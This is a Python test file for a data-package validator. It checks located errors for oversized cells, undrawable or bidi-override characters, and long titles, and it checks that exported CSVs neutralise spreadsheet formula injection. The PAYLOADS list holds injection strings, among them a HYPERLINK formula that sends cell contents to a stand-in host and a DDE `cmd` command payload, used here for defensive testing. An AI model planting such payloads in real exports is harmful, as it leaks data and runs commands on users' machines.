"""Cells that once validated and then broke a tool, or broke the validator itself: each gets its JSON answer.
(The rules' own fixtures are in tests/fixtures/invalid/; these need content too large to keep there.)"""

from __future__ import annotations

import json
import subprocess
import sys

from conftest import ROOT

SCRIPT = ROOT / "scripts" / "validate.py"


def _json_report(descriptor) -> tuple[int, dict, str]:
    result = subprocess.run(
        [sys.executable, str(SCRIPT), "--package", str(descriptor), "--format", "json"],
        capture_output=True,
        text=True,
        timeout=300,
        cwd="/",
    )
    return result.returncode, json.loads(result.stdout), result.stderr


def test_a_cell_beyond_the_csv_modules_limit_is_answered_in_json(package):
    """A 140,000-character cell (Python's csv stops at 131,072 with _csv.Error) is a located cell-too-long."""
    descriptor = package()
    path = descriptor.parent / "data" / "countries.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    lines[1] = lines[1].rsplit(",", 1)[0] + "," + "a" * 140_000
    path.write_text("\n".join(lines), encoding="utf-8")
    code, report, stderr = _json_report(descriptor)
    assert code == 1 and "Traceback" not in stderr, stderr
    located = [(e["type"], e["path"], e["row"], e["field"]) for e in report["errors"]]
    assert located == [("cell-too-long", "data/countries.csv", 2, "notes")], report


def test_a_32000_character_source_title_is_answered_in_json(package):
    """A planted 32,000-character title of data/sources.csv (drawn in every chart's source lines) is refused
    where it is data: a located drawn-text-too-long, with the limit the chart images cut at."""
    descriptor = package()
    path = descriptor.parent / "data" / "sources.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    cells = lines[2].split(",")
    lines[2] = ",".join([cells[0], "A planted title " + "x" * 32_000, *cells[2:]])
    path.write_text("\n".join(lines), encoding="utf-8")
    code, report, stderr = _json_report(descriptor)
    assert code == 1 and "Traceback" not in stderr, stderr
    located = [(e["type"], e["path"], e["row"], e["field"]) for e in report["errors"]]
    assert located == [("drawn-text-too-long", "data/sources.csv", 3, "title")], report
    assert "32,016 characters" in report["errors"][0]["message"] and "200" in report["errors"][0]["message"]


def test_undrawable_characters_in_datapackage_json_are_located_by_json_path(package):
    """U+FFFF planted in datapackage.json's titles and descriptions, a field's among them (which the pinned schema
    replaces for the data's checks, so it is read as contributed), each answered at its JSON path."""
    descriptor = package()
    data = json.loads(descriptor.read_text(encoding="utf-8"))
    data["title"] += "\uffff"
    data["description"] = "A package\uffff"
    data["contributors"][0]["title"] += "\ufdd0"
    data["resources"][0]["description"] = "Sources\uffff"
    data["resources"][0]["schema"]["fields"][1]["title"] = "Title\uffff"
    descriptor.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    code, report, stderr = _json_report(descriptor)
    assert code == 1 and "Traceback" not in stderr, stderr
    located = {(e["type"], e["path"], e["row"], e["resource"], e["field"]) for e in report["errors"]}
    undrawable = [("undrawable-character", "datapackage.json", None, None, where) for where in ("title", "description")]
    undrawable.append(("undrawable-character", "datapackage.json", None, None, "contributors[0].title"))
    undrawable += [
        ("undrawable-character", "datapackage.json", None, "sources", where)
        for where in ("resources[0].description", "resources[0].schema.fields[1].title")
    ]
    assert located == {*undrawable, ("schema-changed", "datapackage.json", None, "sources", "title")}, report
    message = next(e["message"] for e in report["errors"] if e["field"] == "resources[0].schema.fields[1].title")
    assert message == (
        "The text in datapackage.json at resources[0].schema.fields[1].title contains the unassigned code point "
        "U+FFFF, which no font draws."
    )


# --- the CSV files the site writes: formula prefixes neutralised (spf.csvsafe, register.js) -------------------

import csv  # noqa: E402
import io  # noqa: E402
import re  # noqa: E402
import shutil  # noqa: E402
from types import SimpleNamespace  # noqa: E402

import pytest  # noqa: E402

from spf import csvsafe  # noqa: E402
from spf.sitegen import charts  # noqa: E402
from spf.sitegen.components import Column  # noqa: E402
from spf.sitegen.downloads import published_csv  # noqa: E402

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    'x;=HYPERLINK("http://x.example")',
    "a, -2+3+cmd|' /C calc'!A0",
    "  @SUM(1,2)",
    "tab\t+1",
    "line\n=1+1",
    "\t=1",
    "+33 1 23",
]
STARTS_LIKE_A_FORMULA = re.compile(r"^\s*[=+\-@\t\r]")


def spreadsheet_cells(text: str):
    """Every cell a spreadsheet could make of this CSV text: split on each separator it may choose, honouring
    quotes, and line by line ignoring them."""
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from row
    for raw_line in re.split(r"[\r\n]", text):
        yield from re.split(r"[,;\t]", raw_line)


def assert_inert(text: str):
    live = [c for c in spreadsheet_cells(text) if STARTS_LIKE_A_FORMULA.match(c)]
    assert not live, f"cells a spreadsheet would run: {live}"


def test_csvsafe_neutralises_every_part_and_keeps_the_text():
    text = csvsafe.text(["name", "value"], [[p, -5] for p in PAYLOADS])
    assert_inert(text.replace(",-5\n", ",5\n"))  # (the number column's minus sign is a number, not a formula)
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[0].replace("'", "") for r in rows] == [p.replace("'", "") for p in PAYLOADS]
    assert [r[1] for r in rows] == ["-5"] * len(PAYLOADS)


def test_chart_csv_neutralises_text_from_any_source():
    spec = charts.ChartSpec(
        id="t", title="t", kind="bar", x="label", y="value", unit="people", summary="s",
        data=[{"label": p, "value": 1} for p in PAYLOADS],
        columns=[Column("label", "Label"), Column("value", "Value", numeric=True)],
    )  # fmt: skip
    assert_inert(charts.csv_text(spec))


def test_register_js_writes_the_same_cells_as_csvsafe():
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    source = (ROOT / "docs" / "assets" / "js" / "register.js").read_text(encoding="utf-8")
    function = re.search(r"  function csvCell\(value\) \{.*?\n  \}\n", source, re.S).group(0)
    values = [*PAYLOADS, "plain", 'with "quotes", and a comma', 12, None]
    script = function + f"process.stdout.write(JSON.stringify({json.dumps(values)}.map(csvCell)));"
    out = subprocess.run([node, "-e", script], capture_output=True, text=True, timeout=60, check=True).stdout
    assert json.loads(out) == [csvsafe.cell(v) for v in values]


def test_downloads_keep_valid_files_byte_for_byte_and_neutralise_others(package):
    valid = package()
    pkg = SimpleNamespace(root=valid.parent, descriptor=json.loads(valid.read_text(encoding="utf-8")))
    for res in pkg.descriptor["resources"]:
        assert published_csv(pkg, res) == (pkg.root / res["path"]).read_bytes(), res["name"]
    bad = package("formula-injection")
    pkg = SimpleNamespace(root=bad.parent, descriptor=json.loads(bad.read_text(encoding="utf-8")))
    for res in pkg.descriptor["resources"]:
        published = published_csv(pkg, res).decode("utf-8")
        text_columns = [f["name"] for f in res["schema"]["fields"] if f.get("type", "string") == "string"]
        for row in csv.DictReader(io.StringIO(published, newline="")):
            for name in text_columns:
                assert_inert(row[name])  # as a spreadsheet would split the cell
        if res["name"] in ("countries", "partners"):  # the files with a formula-like cell
            assert_inert(published)


def test_control_characters_and_long_titles_in_datapackage_json_are_located(package):
    """A right-to-left override in the package's description and a 32,000-character package title (which
    becomes the BibTeX citation and every page's data heading) are refused at their JSON paths; a long
    description, which is neither drawn nor cited, is not."""
    descriptor = package()
    data = json.loads(descriptor.read_text(encoding="utf-8"))
    data["title"] = "A planted title " + "x" * 32_000
    data["description"] = "Reads one way\u202eand shows another"
    data["resources"][1]["title"] = "y" * 201
    data["resources"][1]["description"] = "z" * 5_000
    descriptor.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    code, report, stderr = _json_report(descriptor)
    assert code == 1 and "Traceback" not in stderr, stderr
    located = {(e["type"], e["field"]) for e in report["errors"] if e["path"] == "datapackage.json"}
    assert located == {
        ("drawn-text-too-long", "title"),
        ("control-character", "description"),
        ("drawn-text-too-long", "resources[1].title"),
    }, report
    message = next(e["message"] for e in report["errors"] if e["field"] == "description")
    assert message == "The text in datapackage.json at description contains the control character U+202E."
